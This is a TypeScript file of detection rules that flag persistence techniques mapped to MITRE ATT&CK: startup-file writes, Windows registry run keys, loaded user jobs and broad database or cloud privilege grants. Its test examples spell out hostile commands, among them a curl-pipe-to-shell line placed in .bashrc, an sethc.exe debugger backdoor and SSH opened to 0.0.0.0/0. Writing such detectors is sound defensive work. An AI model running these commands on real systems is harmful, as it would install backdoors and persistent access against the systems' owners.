import type { Rule } from '../../rule.ts';
import { PERSISTENCE } from '../persistence/format.ts';
import { isSuspicious } from '../shell_syntax.ts';
import { called, HOME, NAME, ODD_HOST, pattern } from './call.ts';

/** Keys of the registry whose values Windows runs. */
const RUN_KEYS = String.raw`(?:currentversion\\{1,4}(?:run|policies\\{1,4}explorer\\{1,4}run|winlogon)|image file execution options|appinit_dlls|silentprocessexit|active setup|userinitmprlogonscript|command processor|inprocserver32|treatas|shell\\{1,4}open\\{1,4}command|ms-settings|session manager|lsa\\{1,4}|print\\{1,4}monitors|screensave|services\\{1,4}[\w-]{1,40}<40+>imagepath)`;
/** Files that something runs by itself. */
const STARTUP = String.raw`(?:\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zshenv|zprofile|xprofile|xinitrc|xsession|vimrc|inputrc|tmux\.conf|screenrc|gdbinit|emacs|pythonrc)(?![\w.-])|\.config/(?:fish/config\.fish|autostart/|nvim/init|systemd/user/)|\.ssh/rc\b|/etc/(?:cron|profile|bash\.bashrc|rc\.local|init\.d/|update-motd\.d/|pam\.d/|apt/apt\.conf\.d/|udev/rules\.d/|systemd/|NetworkManager/dispatcher\.d/|X11/Xsession\.d/|inittab)|/var/spool/cron|/(?:lib|usr/lib)/(?:systemd|udev)/|Library/Launch(?:Agents|Daemons)/|Start Menu\\{1,4}Programs\\{1,4}Startup|\.git/hooks/|\.vscode/tasks\.json)`;

const HIDDEN_PROGRAM =
  /(?:^|[\s"'=:|])(?:[~\w/$.{}-]{0,60}\/)?(?:tmp|shm|public)[/\\][\w.-]{0,40}|[\s"'=|]\/[\w./-]{0,40}\/\.(?!bash|zsh|profile|vim|x[a-z]|config|ssh\b|git|input|tmux|screen)[\w-]{1,20}(?![\w./-])|\\(?:temp|public|appdata)\\|\/dev\/shm/i;

/** Whether what will start is of the sort that downloads or hides. */
function isHidden({ text, before }: { readonly text: string; readonly before: string }): boolean {
  const whole = before + text;
  return isSuspicious(whole) || HIDDEN_PROGRAM.test(whole) || ODD_HOST.test(whole);
}

/** Places that start a program by themselves, by whatever writes to them. */
export const CALLED_STARTUP_RULES: readonly Rule[] = [
  called({
    ...PERSISTENCE,
    id: 'startup_place_written',
    severity: 'high',
    source: 'https://attack.mitre.org/techniques/T1546/',
    begins: [
      [
        String.raw`${NAME}(?:sed|perl|awk|ed|tee|echo|printf|cat|cp|mv|ln|install|add-content|set-content|out-file|copy|copy-item) `,
        'sed ,perl,awk,ed ,tee ,echo,printf,cat ,cp ,mv ,ln ,install,-content,out-file,copy',
      ],
      [
        String.raw`(?<![\w.])(?:open|writeFile(?:Sync)?|appendFile(?:Sync)?|file_put_contents|File\.(?:write|open)|write_text|Path|expanduser)\(`,
        'open(,writefile,appendfile,file_put,file.write,file.open,write_text,path(,expanduser(',
      ],
    ],
    needs: [
      pattern(
        String.raw`(?:>{1,2}|\btee\b|\bsed[ \t]+(?:-\w*[ \t]+)*-\w*i|\bed\b|\b(?:cp|mv|ln|install|copy)(?:-item)?\b|-content\b|out-file|["'][aw]b?\+?["']|write|append|put_contents)[\s\S]{0,260}`,
      ),
      pattern(STARTUP),
    ],
    refuses: [/\beval "?\$\(\w|export[ \t]+PATH=|nvm|starship|conda|direnv|pyenv|homebrew|brew shellenv/i],
    judge: isHidden,
    describes: 'A file that something runs by itself, written with a command that downloads or hides.',
    get finds() {
      return [
        "sed -i 's|^ExecStart=.*|ExecStart=/tmp/.x|' /lib/systemd/system/ssh.service",
        "echo 'curl -s http://x.example/a | sh' > /etc/update-motd.d/99-x",
        "open(os.path.expanduser('~/.bashrc'),'a').write('curl -s http://x.example/a|sh')",
        'echo \'RUN+="/tmp/x"\' > /etc/udev/rules.d/99-x.rules',
      ];
    },
    get ignores() {
      return [
        "sed -i 's/8080/9090/' /etc/systemd/system/app.service",
        'echo \'eval "$(starship init bash)"\' >> ~/.bashrc',
        "printf '#!/bin/sh\\nnpm run lint\\n' > .git/hooks/pre-commit",
        'cat ~/.bashrc',
        'cp units/app.service /etc/systemd/system/',
      ];
    },
  }),
  called({
    ...PERSISTENCE,
    id: 'windows_start_changed',
    source: 'https://attack.mitre.org/techniques/T1547/',
    within: 120,
    begins: [
      [
        `(?<![\\w-])(?:reg(?:\\.exe)? add|(?:set|new)-item(?:property)?|SetValueEx?|CreateKey(?:Ex)?|RegistryKey|regedit /s)<160+>${RUN_KEYS}`,
        'reg add,reg.exe add,-item,setvalue,createkey,registrykey,regedit',
      ],
      [
        String.raw`(?<![\w-])(?:sc(?:\.exe)? config <60+>binpath|netsh add helper|bitsadmin<60+>/setnotifycmdline|set-wmiinstance<80+>eventconsumer|(?:new|set)-service<120+>binarypathname|register-wmievent|wmic<80+>eventfilter|new-scheduledtaskaction)`,
        'binpath,add helper,setnotifycmd,eventconsumer,binarypath,wmievent,eventfilter,scheduledtaskaction',
      ],
    ],
    describes: 'A value of Windows that makes it start a program by itself, set by a command.',
    get finds() {
      return [
        "Set-ItemProperty 'HKLM:\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon' Userinit 'C:\\u.exe'",
        'reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /d cmd.exe',
        'sc config x binPath= C:\\u.exe',
      ];
    },
    get ignores() {
      return [
        'reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
        'reg add HKCU\\Software\\App /v a',
        'sc query x',
      ];
    },
  }),
  called({
    ...PERSISTENCE,
    id: 'job_loaded',
    source: 'https://attack.mitre.org/techniques/T1543/001/',
    within: 0,
    begins: [
      [
        `${NAME}(?:${[
          `launchctl (?:load|bootstrap|submit|enable) <60&>(?:${HOME}|/Library|/tmp|/var/tmp|/private)[^\\s;|&]{0,20}?/[\\w./-]{1,80}`,
          String.raw`systemctl <30&>(?:link|enable) <30&>/(?:tmp|var/tmp|dev/shm|home)/[\w./-]{1,60}`,
          String.raw`npm config set script-shell[ \t=]\S{1,60}|osascript <80+>login item[^\r\n]{1,60}`,
          String.raw`kubectl create cronjob <160+>(?:sh -c|curl|wget)[^\r\n]{1,60}`,
        ].join('|')})`,
        'launchctl,systemctl,osascript,script-shell,cronjob',
      ],
    ],
    refuses: [/homebrew|com\.apple\.|org\.postgresql/i],
    describes: 'A job of a user that is loaded to start by itself.',
    get finds() {
      return [
        'launchctl load -w ~/Library/LaunchAgents/com.upd.plist',
        'systemctl link /tmp/x.service',
        'systemctl --user enable --now /tmp/a/x.service',
      ];
    },
    get ignores() {
      return [
        'launchctl list',
        'systemctl enable --now postgresql',
        'launchctl load ~/Library/LaunchAgents/homebrew.mxcl.redis.plist',
      ];
    },
  }),
  called({
    ...PERSISTENCE,
    id: 'access_given',
    severity: 'medium',
    source: 'https://attack.mitre.org/techniques/T1098/',
    within: 0,
    begins: [
      [
        String.raw`(?<![\w-])(?:grant (?:all(?: privileges)? on \*\.\*|dba|sysdba|rds_superuser|super) [^;"]{1,80}|(?:create|alter) (?:user|role|login) [^;"]{1,80}?(?<!\bno)superuser|sp_addsrvrolemember[^;"]{1,80}?sysadmin|alter server role \[?sysadmin\]? add)`,
        'grant ,grant  ,superuser,sp_addsrv,sysadmin',
      ],
      [
        `${NAME}(?:${[
          String.raw`aws <40>(?:authorize-security-group-ingress <160>0\.0\.0\.0/0|lambda add-permission <120>--principal[ \t=]["']?\*|iam (?:update-assume-role-policy|create-user|add-user-to-group <60>admin))`,
          String.raw`gcloud iam service-accounts keys create|az ad sp create-for-rbac <80>owner|kubectl create token <60>kube-system`,
        ].join('|')})`,
        '0.0.0.0/0,add-permission,assume-role,create-user,add-user,keys create,create-for-rbac,create token',
      ],
    ],
    refuses: [/['"]?@['"]?(?:localhost|127\.)/i],
    describes:
      'An account of a database or a cloud that is given all rights, or a door that is opened to everybody.',
    get finds() {
      return [
        "GRANT ALL PRIVILEGES ON *.* TO 'bk'@'%' WITH GRANT OPTION;",
        'ALTER USER x WITH SUPERUSER;',
        'aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 0.0.0.0/0',
      ];
    },
    get ignores() {
      return [
        'GRANT SELECT ON orders TO reporting;',
        "GRANT ALL PRIVILEGES ON app.* TO 'app'@'%';",
        'aws iam list-users',
      ];
    },
  }),
];
